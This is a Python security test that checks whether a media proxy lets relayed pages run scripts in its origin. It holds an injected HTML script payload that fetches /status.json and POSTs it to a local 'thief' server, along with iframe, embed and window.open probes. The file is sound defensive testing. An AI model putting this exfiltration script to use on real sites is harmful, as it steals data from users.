"""A page on another port of this machine cannot run scripts in the proxy's origin."""

import asyncio
import contextlib
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

from aiohttp import web

from tests.contract.whole import whole
from tests.players.chromium import page

_PLAYLIST = """\
#EXTM3U
#EXT-X-TARGETDURATION:4
#EXT-X-KEY:METHOD=AES-128,URI="k.html"
#EXTINF:4,
s.ts
#EXTINF:4,
t.ts
"""
# It begins like media, but its type makes it a page.
_SCRIPT = """\
G{filler}<script>
fetch("/status.json").then(answer => answer.text()).then(text =>
  fetch("{thief}/stolen?by={by}", {{method: "POST", mode: "no-cors", body: text}}));
</script>
"""
_PAGE = """<!doctype html><title>thief</title>{parts}"""
_PARTS = """
<iframe src="{url}"></iframe>
<object data="{url}"></object>
<embed src="{url}">
<script src="{url}"></script>
<script>
window.open("{url}");
fetch("{url}").then(answer => answer.text()).then(text =>
  fetch("/stolen?by=fetch", {{method: "POST", body: text}})).catch(() => 0);
</script>
"""
# Several round trips to loopback, and drawing a page.
_SECONDS = 3.0


@dataclass(slots=True)
class _Thief:
    """An origin of its own, and the requests to it."""

    url: str = ""
    targets: list[str] = field(default_factory=list)
    stolen: list[str] = field(default_factory=list)

    async def answer(self, request: web.BaseRequest) -> web.StreamResponse:
        if request.path == "/stolen":
            self.stolen.append(await request.text())
            return web.Response()
        parts = "".join(_PARTS.format(url=url) for url in self.targets)
        text = _PAGE.format(parts=parts)
        return web.Response(text=text, content_type="text/html")


@contextlib.asynccontextmanager
async def _thief() -> AsyncIterator[_Thief]:
    one = _Thief()
    runner = web.ServerRunner(web.Server(one.answer))
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        one.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
        yield one
    finally:
        await runner.cleanup()


async def test_a_relayed_page_runs_no_script_in_our_origin(tmp_path: Path) -> None:
    """Framed, embedded, opened, run or fetched; in the origin's own it does run."""
    async with _thief() as thief, whole(tmp_path) as one:

        def page_of(by: str, _: web.BaseRequest) -> web.Response:
            text = _SCRIPT.format(filler=" " * 400, thief=thief.url, by=by)
            return web.Response(text=text, content_type="text/html")

        one.origin.asks("/v.m3u8", lambda _: web.Response(text=_PLAYLIST))
        for name in ("s.ts", "t.ts", "k.html"):
            one.origin.asks(f"/{name}", partial(page_of, name))
        playlist = (await one.get()).body.decode()
        proxy = f"http://127.0.0.1:{one.port}"
        key = playlist.partition('URI="')[2].partition('"')[0]
        assert not key.endswith(".html")
        thief.targets = [f"{proxy}/lobby/{name}" for name in ("main/s.ts", key)]
        thief.targets += [f"{proxy}/status.json", f"{proxy}/lobby/index.m3u8"]
        async with page(thief.url):
            await asyncio.sleep(_SECONDS)
        assert thief.stolen == []

        one.origin.asks("/status.json", lambda _: web.Response(text="the origin's"))
        thief.targets = [f"{one.origin.url}/s.ts"]
        async with page(thief.url):
            await asyncio.sleep(_SECONDS)
        assert "the origin's" in thief.stolen
